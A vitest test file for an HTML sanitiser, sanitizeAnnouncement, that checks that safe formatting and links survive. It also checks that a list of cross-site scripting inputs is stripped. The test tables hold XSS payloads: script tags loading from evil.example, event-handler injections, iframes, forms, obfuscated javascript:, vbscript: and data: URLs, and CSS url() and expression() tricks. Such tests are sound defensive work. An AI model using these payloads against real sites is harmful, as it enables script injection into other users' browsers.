import { describe, expect, it } from 'vitest';
import { sanitizeAnnouncement } from './sanitizeAnnouncement';

const parse = (html: string) => {
  const root = document.createElement('div');
  root.innerHTML = sanitizeAnnouncement(html);
  return root;
};

const hasHandler = (root: Element) =>
  Array.from(root.querySelectorAll('*')).some((element) =>
    Array.from(element.attributes).some((attribute) => attribute.name.toLowerCase().startsWith('on')),
  );

describe('sanitizeAnnouncement', () => {
  it('keeps ordinary formatting, images and safe links', () => {
    const root = parse(
      '<h3>Bonus</h3><p><strong>100%</strong> up to <em>500</em></p><img src="/a.png" alt="A"><a href="https://example.com/terms">Terms</a>',
    );
    expect(root.querySelector('h3')).toHaveTextContent('Bonus');
    expect(root.querySelector('strong')).toHaveTextContent('100%');
    expect(root.querySelector('img')).toHaveAttribute('src', '/a.png');
    const link = root.querySelector('a');
    expect(link).toHaveAttribute('href', 'https://example.com/terms');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it.each([
    ['script', '<p>hi</p><script>alert(1)</script>'],
    ['script in odd case', '<ScRiPt src="//evil.example/x.js"></ScRiPt>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
    ['body onload', '<body onload=alert(1)>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object', '<object data="evil.swf"></object>'],
    ['embed', '<embed src="evil.swf">'],
    ['form', '<form action="https://evil.example"><input name="p"><button>Go</button></form>'],
    ['style tag', '<style>body{background:url(javascript:alert(1))}</style>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base', '<base href="https://evil.example/">'],
  ])('removes %s', (_name, html) => {
    const root = parse(html);
    expect(root.querySelector('script, iframe, object, embed, form, input, button, style, meta, base, svg')).toBeNull();
    expect(hasHandler(root)).toBe(false);
    expect(root.innerHTML).not.toMatch(/alert\(1\)|evil\.example/i);
  });

  it.each([
    ['plain', '<a href="javascript:alert(1)">x</a>'],
    ['mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['entity encoded', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['hex entities', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
    ['tab inside', '<a href="java\tscript:alert(1)">x</a>'],
    ['newline inside', '<a href="java&#10;script:alert(1)">x</a>'],
    ['leading spaces', '<a href="  javascript:alert(1)">x</a>'],
    ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ])('drops a dangerous link URL: %s', (_name, html) => {
    const link = parse(html).querySelector('a');
    expect(link).not.toBeNull();
    const href = link?.getAttribute('href') ?? '';
    expect(href).not.toMatch(/script|data:/i);
  });

  it.each([
    ['url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
    ['url() of another site', '<p style="background-image: url(https://evil.example/track.png)">x</p>'],
    ['expression()', '<p style="width: expression(alert(1))">x</p>'],
    ['escaped url', '<p style="background:u\\rl(javascript:alert(1))">x</p>'],
    ['escaped url() of another site', '<p style="background:u\\72 l(https://evil.example/t.png)">x</p>'],
  ])('drops an unsafe style: %s', (_name, html) => {
    const paragraph = parse(html).querySelector('p');
    expect(paragraph).toHaveTextContent('x');
    expect(paragraph?.getAttribute('style') ?? '').not.toMatch(/javascript|evil|expression/i);
  });

  it('keeps a harmless style', () => {
    expect(parse('<p style="color: red">x</p>').querySelector('p')).toHaveAttribute('style', 'color: red');
  });
});
